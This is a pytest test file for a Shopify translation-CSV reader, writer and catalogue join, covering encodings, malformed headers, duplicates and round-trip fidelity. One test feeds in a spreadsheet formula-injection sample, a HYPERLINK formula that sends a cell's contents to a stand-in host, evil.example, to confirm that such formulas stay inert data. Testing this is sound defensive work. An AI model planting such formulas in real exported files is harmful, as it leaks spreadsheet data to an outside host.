"""Shopify's translation CSV: reading hostile files with one clear line, writing files that read back exactly, and
joining an export to the catalogue without dropping anything unreported."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from pipeline.errors import InputError
from pipeline.shopify import translations_csv as tcsv

HEADER = ",".join(tcsv.CURRENT_HEADER)


def write(tmp_path: Path, data: str | bytes, name: str = "translations.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
    return path


def export(*rows: str, header: str = HEADER) -> str:
    return "\n".join([header, *rows]) + "\n"


def error_of(tmp_path: Path, data: str | bytes, name: str = "translations.csv") -> str:
    with pytest.raises(InputError) as caught:
        tcsv.read_translation_file(write(tmp_path, data, name))
    message = str(caught.value)
    assert "\n" not in message
    return message


# -- reading -------------------------------------------------------------------------------------------------------
def test_reads_the_markets_era_export(tmp_path):
    path = write(tmp_path, export(
        "PRODUCT,8000000000001,title,fr,,translated,Oak Stool,Tabouret en chêne",
        'PRODUCT,8000000000001,body_html,fr,,,"<p>Oak, oiled.</p>\n<ul><li>Care: wipe</li></ul>",',
        "PRODUCT,8000000000001,handle,fr,,,oak-stool,"))
    file = tcsv.read_translation_file(path)
    assert file.header == tcsv.CURRENT_HEADER and file.repeated == 0
    title, body, handle = file.rows
    assert (title.resource_type, title.resource_id, title.field, title.locale, title.status) == (
        "PRODUCT", "8000000000001", "title", "fr", "translated")
    assert title.translated_content == "Tabouret en chêne" and title.line == 2
    assert body.default_content == "<p>Oak, oiled.</p>\n<ul><li>Care: wipe</li></ul>" and body.line == 3
    assert body.translated_content == "" and handle.line == 5  # a quoted cell spans two lines


def test_reads_the_pre_markets_header_and_keeps_it(tmp_path):
    legacy = ",".join(tcsv.LEGACY_HEADER)
    file = tcsv.read_translation_file(write(tmp_path, export("PRODUCT,12,title,de,translated,Mug,Becher",
                                                             header=legacy)))
    assert file.header == tcsv.LEGACY_HEADER
    assert file.rows[0].market == "" and file.rows[0].translated_content == "Becher"


@pytest.mark.parametrize("identification", ["'8000000000001", "gid://shopify/Product/8000000000001",
                                            " 8000000000001 "])
def test_identification_as_a_spreadsheet_or_the_api_writes_it(tmp_path, identification):
    file = tcsv.read_translation_file(write(tmp_path, export(f"PRODUCT,{identification},title,fr,,,Mug,Tasse")))
    assert file.rows[0].resource_id == "8000000000001"


def test_utf8_byte_order_mark_and_crlf_are_read(tmp_path):
    text = export("PRODUCT,1,title,fr,,,Mug,Tasse").replace("\n", "\r\n")
    file = tcsv.read_translation_file(write(tmp_path, b"\xef\xbb\xbf" + text.encode("utf-8")))
    assert file.rows[0].resource_type == "PRODUCT" and file.rows[0].translated_content == "Tasse"


def test_header_names_are_matched_without_regard_to_case_and_extra_columns_are_ignored(tmp_path):
    header = "type,identification,Handle,field,locale,market,status,default content,translated content"
    file = tcsv.read_translation_file(write(tmp_path, export("PRODUCT,1,mug,title,fr,,,Mug,Tasse", header=header)))
    assert file.rows[0].field == "title" and file.rows[0].translated_content == "Tasse"


@pytest.mark.parametrize("data, pattern", [
    ("x".join(tcsv.CURRENT_HEADER).encode("utf-16"), r"row 1: the file is UTF-16 text; .*CSV UTF-8"),
    (export("PRODUCT,1,title,fr,,,Mug,Tasse").encode("utf-16-le"), r"row 1: the file is UTF-16 text"),
    (export("PRODUCT,1,title,fr,,,Mug,Tasse", "PRODUCT,1,body_html,fr,,,Caf\u00e9,").encode("latin-1"),
     r"row 3: byte 0xe9 is not valid UTF-8"),
    (export("PRODUCT;1;title;fr;;;Mug;Tasse", header=HEADER.replace(",", ";")),
     r"row 1: header is separated by semicolons; Shopify's translation CSV uses commas"),
    (export("PRODUCT\t1\ttitle\tfr\t\t\tMug\tTasse", header=HEADER.replace(",", "\t")),
     r"row 1: header is separated by tabs"),
    ("", r"file is empty"),
    ("Title,URL handle,Description\nMug,mug,<p>x</p>\n",
     r"row 1: column 'Type': missing required column; this looks like a product CSV"),
    ("Name,Value\nx,y\n", r"row 1: column 'Type': missing required column; is this Shopify's translation export"),
    (export("PRODUCT,1,title,fr,,,Mug,Tasse", header=HEADER + ",Locale"),
     r"row 1: column 'Locale': column appears more than once"),
    (export("PRODUCT,1,title,fr,,Mug,Tasse"), r"row 2: has 7 cells but the header has 8"),
    (export('PRODUCT,1,body_html,fr,,,"<p>never closed,'), r"row 2: malformed CSV .*quote left open"),
    (export("PRODUCT,,title,fr,,,Mug,Tasse"), r"row 2: column 'Identification': empty cell"),
    (export("PRODUCT,1,title,,,,Mug,Tasse"), r"row 2: column 'Locale': empty cell"),
    (export("PRODUCT,',title,fr,,,Mug,Tasse"), r"row 2: column 'Identification': \"'\" is not a resource id"),
])
def test_a_bad_file_is_one_line_naming_file_row_and_column(tmp_path, data, pattern):
    import re

    message = error_of(tmp_path, data, "bad.csv")
    assert message.startswith(str(tmp_path / "bad.csv")), message
    assert re.search(pattern, message), message


def test_missing_file_and_directory(tmp_path):
    with pytest.raises(InputError, match="file not found"):
        tcsv.read_translation_file(tmp_path / "absent.csv")
    with pytest.raises(InputError, match="is a directory"):
        tcsv.read_translation_file(tmp_path)


def test_a_row_repeated_word_for_word_is_read_once_and_counted(tmp_path):
    row = "PRODUCT,1,title,fr,,translated,Mug,Tasse"
    file = tcsv.read_translation_file(write(tmp_path, export(row, "PRODUCT,1,title,de,,,Mug,", row)))
    assert len(file.rows) == 2 and file.repeated == 1


def test_the_same_field_twice_with_other_content_names_both_rows(tmp_path):
    message = error_of(tmp_path, export("PRODUCT,1,title,fr,,,Mug,Tasse", "PRODUCT,1,title,de,,,Mug,Becher",
                                        "PRODUCT,'1,title,FR,,,Mug,Grande tasse"))
    assert "row 4: column 'Translated content': the same PRODUCT 1 'title' in locale 'FR' as row 2" in message


def test_the_same_field_for_two_markets_is_two_rows(tmp_path):
    file = tcsv.read_translation_file(write(tmp_path, export("PRODUCT,1,title,fr,,,Mug,Tasse",
                                                             "PRODUCT,1,title,fr,Canada,,Mug,Tasse à café")))
    assert [r.market for r in file.rows] == ["", "Canada"]


def test_a_10_mb_cell_is_read(tmp_path):
    body = "<p>" + "Washed linen softens with every wash. " * (10_000_000 // 38) + "</p>"
    file = tcsv.read_translation_file(write(tmp_path, export(f'PRODUCT,1,body_html,fr,,,"{body}","{body}"')))
    assert len(file.rows[0].translated_content) == len(body) > 10_000_000 * 0.99


def test_formulas_are_data_not_evaluated(tmp_path):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    quoted = formula.replace('"', '""')
    file = tcsv.read_translation_file(write(tmp_path, export(f'PRODUCT,1,title,fr,,,"{quoted}","@SUM(1+1)"')))
    assert (file.rows[0].default_content, file.rows[0].translated_content) == (formula, "@SUM(1+1)")


# -- writing -------------------------------------------------------------------------------------------------------
TRICKY = ["Tasse, \"grande\" — 350 ml", "<p>Ligne 1\nLigne 2</p>\r\n<ul><li>a</li></ul>", "=1+1", "-20 % ce mois",
          "@marque", "\tindent", "Emoji \u2615\ufe0f \U0001f3fa", "\u0645\u0635\u0628\u0627\u062d", "'quoted'", ""]


@pytest.mark.parametrize("header", [tcsv.CURRENT_HEADER, tcsv.LEGACY_HEADER])
def test_what_we_write_reads_back_exactly(tmp_path, header):
    rows = [tcsv.TranslationRow("PRODUCT", f"'80000000000{n:02d}", "title" if n % 2 else "body_html", "fr",
                                status="translated" if n % 3 else "", default_content=TRICKY[-n - 1],
                                translated_content=value) for n, value in enumerate(TRICKY)]
    path = tmp_path / "out.csv"
    assert tcsv.write_translation_file(path, rows, header) == len(rows)
    back = tcsv.read_translation_file(path)
    assert back.header == header
    assert [(r.identification, r.field, r.locale, r.status, r.default_content, r.translated_content)
            for r in back.rows] == [(r.identification, r.field, r.locale, r.status, r.default_content,
                                     r.translated_content) for r in rows]
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    cells = [cell for row in csv.reader(io.StringIO(raw.decode("utf-8"), newline="")) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]  # neutralised for spreadsheets


def test_a_market_row_needs_the_market_column(tmp_path):
    with pytest.raises(ValueError):
        tcsv.write_translation_file(tmp_path / "x.csv", [tcsv.TranslationRow("PRODUCT", "1", "title", "fr",
                                                                             market="Canada")], tcsv.LEGACY_HEADER)


# -- joining -------------------------------------------------------------------------------------------------------
CATALOGUE = [
    tcsv.CatalogueProduct("oak-stool", "oak-stool", {"title": "Oak Stool", "body_html": "<p>Oak.</p>",
                                                     "seo_title": "Oak stool", "seo_description": ""}),
    tcsv.CatalogueProduct("tove-mug", "tove-mug", {"title": "Tove Mug", "body_html": "", "seo_title": "",
                                                   "seo_description": ""}),
]


def joined(tmp_path: Path, *rows: str, products=CATALOGUE, locales=("en", "fr", "de")):
    file = tcsv.read_translation_file(write(tmp_path, export(*rows)))
    return tcsv.join(file, products, list(locales), "en")


def test_join_matches_products_by_the_handle_row_and_counts_what_it_leaves(tmp_path):
    rows, report = joined(
        tmp_path,
        "PRODUCT,101,title,fr,,translated,Oak Stool,Tabouret en chêne",
        "PRODUCT,101,body_html,fr,,,<p>Oak.</p>,",
        "PRODUCT,101,handle,fr,,,oak-stool,",
        "PRODUCT,101,meta_title,fr,,outdated,Oak stool,Tabouret",
        "PRODUCT,102,title,de,,translated,Tove Mug (old),Tove Becher",
        "PRODUCT,102,handle,de,,,tove-mug,",
        "PRODUCT,101,title,it,,translated,Oak Stool,Sgabello",
        "PRODUCT,999,title,fr,,translated,Gone Lamp,Lampe",
        "PRODUCT,998,title,fr,,translated,Other,Autre",
        "PRODUCT,998,handle,fr,,,not-in-catalogue,",
        "PRODUCT,101,title,en,,,Oak Stool,Oak Stool",
        "PRODUCT,101,title,fr,Canada,translated,Oak Stool,Tabouret québécois",
        "COLLECTION,55,title,fr,,translated,Kitchen,Cuisine",
        "PRODUCT,101,product_type,fr,,,Stools,")
    got = {(r.product_id, r.locale, r.key): (r.value, r.outdated) for r in rows}
    assert got == {("oak-stool", "fr", "title"): ("Tabouret en chêne", False),
                   ("oak-stool", "fr", "body_html"): (None, False),
                   ("oak-stool", "fr", "meta_title"): ("Tabouret", True),   # Shopify marks it outdated
                   ("tove-mug", "de", "title"): ("Tove Becher", True)}     # translated from older English
    assert report.unknown_locale == ["row 8: 'it'"]
    assert report.unknown_resource == ["row 9: PRODUCT 999 (no handle row)",
                                       "row 10: PRODUCT 998 (handle 'not-in-catalogue')"]
    assert report.primary_locale == ["row 12: 'en'"]
    assert report.market_specific == ["row 13: oak-stool [fr] title for 'Canada'"]
    assert report.other_types == {"COLLECTION": 1}
    assert report.other_fields == {"PRODUCT handle": 3, "PRODUCT product_type": 1}
    assert report.marked_outdated == {"fr": 1} and report.default_differs == {"de": 1}
    text = "\n".join(report.lines())
    assert "translations: 14 rows" in text and "2 products matched" in text
    assert "de 1 translated of 1 (outdated 1), fr 2 translated of 3 (outdated 1)" in text
    for phrase in ("unknown locale (not in [pipeline] locales), not used: 1, e.g. row 8: 'it'",
                   "unknown resource (no product in the catalogue), not used: 2",
                   "in the primary locale, not used", "market-specific (Market set), kept as they are",
                   "other resources and fields, left as they are: 5"):
        assert phrase in text


def test_join_matches_store_products_by_their_id(tmp_path):
    products = [tcsv.CatalogueProduct("gid://shopify/Product/101", "oak-stool", {"title": "Oak Stool"})]
    rows, report = joined(tmp_path, "PRODUCT,'101,title,fr,,translated,Oak Stool,Tabouret", products=products)
    assert [(r.product_id, r.value) for r in rows] == [("gid://shopify/Product/101", "Tabouret")]
    assert not report.unknown_resource


def test_current_translations_of_a_newer_export(tmp_path):
    file = tcsv.read_translation_file(write(tmp_path, export(
        "PRODUCT,101,title,fr,,translated,Oak Stool,Tabouret modifié", "PRODUCT,101,meta_title,fr,,,Oak stool,",
        "PRODUCT,101,title,fr,Canada,translated,Oak Stool,Autre", "PRODUCT,7,title,fr,,translated,X,Y")))
    assert tcsv.current_translations(file, {"101": "oak-stool"}, ["fr"]) == {
        ("oak-stool", "fr", "title"): "Tabouret modifié", ("oak-stool", "fr", "seo_title"): None}
